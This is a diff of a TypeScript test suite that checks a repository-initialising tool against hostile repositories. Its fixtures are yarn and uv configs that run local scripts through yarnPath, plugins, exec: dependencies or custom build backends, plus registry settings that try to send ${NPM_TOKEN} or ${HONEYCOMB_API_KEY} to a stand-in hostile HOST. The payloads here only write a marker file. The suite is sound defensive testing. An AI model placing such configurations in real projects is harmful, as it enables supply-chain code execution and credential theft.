@@ -103,7 +103,8 @@ async function attack(tree: Tree, how: How = {}): Promise<Ran> {
   git(at.folder, 'add', '-A', '-f');
   const beside = Object.keys(treeOf(at.folder)).toSorted();
   for (const registry of [trusted, hostile]) registry.requests.length = 0;
-  const ran = await inits(at, how);
+  const env = Object.fromEntries(Object.entries(how.env ?? {}).map(([name, value]) => [name, value.replaceAll('HOST', hostile.host)]));
+  const ran = await inits(at, { ...how, env });
   expect(existsSync(mark)).toBe(false);
   expect([...trusted.requests, ...hostile.requests].filter((request) => request.includes(CANARY))).toEqual([]);
   expect(holders(at.home)).toEqual([]);
@@ -145,19 +146,19 @@ describe('a repository that attacks: nothing runs, nothing leaves', () => {
     ['yarn 1: scripts', () => yarn({ 'web/.yarnrc': '--install.ignore-scripts false\nyarn-path "./evil.js"\n', 'web/evil.js': 'require("fs").writeFileSync("MARK","x")\n' }, { scripts: { preinstall: 'SCRIPT', postinstall: 'SCRIPT', prepare: 'SCRIPT' } }), undefined],
     ['yarn 1: git', () => yarn({}, { dependencies: { express: '1.0.0', x: 'git+https://HOST/x.git' } }), /takes "x" from/],
     ['yarn 4: plugins', () => berry({ 'web/.yarnrc.yml': 'plugins: [./p.cjs]\n', 'web/p.cjs': PLUGIN }, {}), /has plugins/, { berry: true }],
-    ['yarn 4: a plugin that calls itself by a known name', () => berry({ 'web/.yarnrc.yml': 'plugins:\n  - path: ./p.cjs\n    spec: "@yarnpkg/plugin-workspace-tools"\n', 'web/p.cjs': PLUGIN }, {}), undefined, { berry: true }],
-    ['yarn 4: yarnPath', () => berry({ 'web/.yarnrc.yml': 'yarnPath: ./p.cjs\nenableScripts: true\n', 'web/p.cjs': 'require("fs").writeFileSync("MARK","x")' }, {}), undefined, { berry: true }],
+    ['yarn 4: a plugin that calls itself by a known name', () => berry({ 'web/.yarnrc.yml': 'unsafeHttpWhitelist: ["127.0.0.1"]\nplugins:\n  - path: ./p.cjs\n    spec: "@yarnpkg/plugin-workspace-tools"\n', 'web/p.cjs': PLUGIN }, {}), undefined, { berry: true }],
+    ['yarn 4: yarnPath', () => berry({ 'web/.yarnrc.yml': 'unsafeHttpWhitelist: ["127.0.0.1"]\nyarnPath: ./p.cjs\nenableScripts: true\n', 'web/p.cjs': 'require("fs").writeFileSync("MARK","x")' }, {}), undefined, { berry: true }],
     ['yarn 4: variables', () => berry({ 'web/.yarnrc.yml': 'npmRegistryServer: "http://HOST/${HONEYCOMB_API_KEY}"\nunsafeHttpWhitelist: ["*"]\n' }, {}), /no plain address/, { berry: true }],
     ['yarn 4: a token', () => berry({ 'web/.yarnrc.yml': 'npmRegistryServer: "http://HOST"\nnpmAuthToken: "${NPM_TOKEN}"\nnpmAlwaysAuth: true\nunsafeHttpWhitelist: ["127.0.0.1"]\n' }, {}), undefined, { berry: true }],
     ['yarn 4: exec:', () => berry({ 'web/gen.js': 'require("fs").writeFileSync("MARK","x")' }, { dependencies: { express: '1.0.0', x: 'exec:./gen.js' } }), /takes "x" from/, { berry: true }],
     ['yarn 4: a patch', () => berry({ 'web/p.patch': 'x' }, { dependencies: { express: 'patch:express@1.0.0#./p.patch' } }), /takes "express" from/, { berry: true }],
-    ['yarn 4: exec: in a package of a registry', () => berry({ 'web/.yarnrc.yml': 'npmRegistryServer: "http://HOST"\nunsafeHttpWhitelist: ["127.0.0.1"]\n' }, { dependencies: { express: '1.0.0', 'needs-exec': '1.0.0' } }), /could not bring|takes "/, { berry: true }],
+    ['yarn 4: exec: in a package of a registry', () => berry({ 'web/.yarnrc.yml': 'npmRegistryServer: "http://HOST"\nunsafeHttpWhitelist: ["127.0.0.1"]\n' }, { dependencies: { express: '1.0.0', 'needs-exec': '1.0.0' } }), /could not bring|takes "/, { berry: true, env: { YARN_NPM_REGISTRY_SERVER: 'http://HOST' } }],
     ['uv: a build backend of its own', () => uv(PROJECT.replace('version = "1.0.0"', 'dynamic = ["version"]').concat('[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'), { 'web/evil.py': 'open("MARK", "w")\n' }), /dynamic version/],
     ['uv: a build backend of its own, and a version', () => uv(`${PROJECT}[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n`, { 'web/evil.py': 'open("MARK", "w")\n' }), undefined],
     ['uv: a folder', () => uv(`${PROJECT.replace('"flask"', '"flask", "lib"')}[tool.uv.sources]\nlib = { path = "./lib" }\n`, { 'web/lib/setup.py': 'open("MARK", "w")\n' }), /takes "lib" from/],
     ['uv: an address', () => uv(PROJECT.replace('"flask"', '"flask", "lib @ http://HOST/lib.tar.gz"')), /takes "lib" from/],
     ['uv: a source package that runs code', () => uv(`${PROJECT.replace('"flask"', '"flask", "source-only"')}[[tool.uv.index]]\nname = "internal"\nurl = "http://HOST/simple"\ndefault = true\n`), /could not bring/],
-    ['uv: the same by uv.toml', () => uv(PROJECT.replace('"flask"', '"flask", "source-only"'), { 'web/uv.toml': 'no-build = false\nindex-url = "http://HOST/simple"\nkeyring-provider = "subprocess"\n' }), /could not bring/],
+    ['uv: the same by uv.toml', () => uv(PROJECT.replace('"flask"', '"flask", "source-only"'), { 'web/uv.toml': 'no-build = false\nindex-url = "http://HOST/simple"\nkeyring-provider = "subprocess"\n' }), /could not bring/, { env: { UV_INDEX_URL: 'http://HOST/simple' } }],
     ['uv: an index with a name that has a password', () => uv(`${PROJECT}[[tool.uv.index]]\nname = "internal"\nurl = "http://HOST/simple"\nauthenticate = "always"\ndefault = true\n`), undefined],
     ['uv: a password in an index', () => uv(`${PROJECT}[[tool.uv.index]]\nname = "x"\nurl = "http://a:b@HOST/simple"\n`), /no plain address/],
     ['uv: an interpreter of its own', () => uv(PROJECT, { 'web/.python-version': 'SCRIPT\n' }), undefined],
@@ -205,6 +206,9 @@ describe('a repository that attacks: nothing runs, nothing leaves', () => {
 /** The lock file that the tool makes by itself, of the manifests that init left. */
 async function byHand(before: Tree, at: Place, lock: string, argv: readonly string[], four: boolean): Promise<string> {
   const to = place({ ...treeOf(at.folder), [lock]: before[lock] ?? '' });
+  // Programs of the repository, which are not there.
+  const settings = join(to.folder, 'web/.yarnrc.yml');
+  if (existsSync(settings)) writeFileSync(settings, readFileSync(settings, 'utf8').replace(/^yarnPath.*\n/m, '').replace(/^plugins:\n(?: .*\n)*/m, ''));
   const [program = '', ...words] = argv;
   const env = {
     PATH: pathWithManagers(four), HOME: to.home, CI: '1', NPM_CONFIG_REGISTRY: trusted.url, YARN_REGISTRY: trusted.url, YARN_NPM_REGISTRY_SERVER: trusted.url, YARN_ENABLE_IMMUTABLE_INSTALLS: '0',
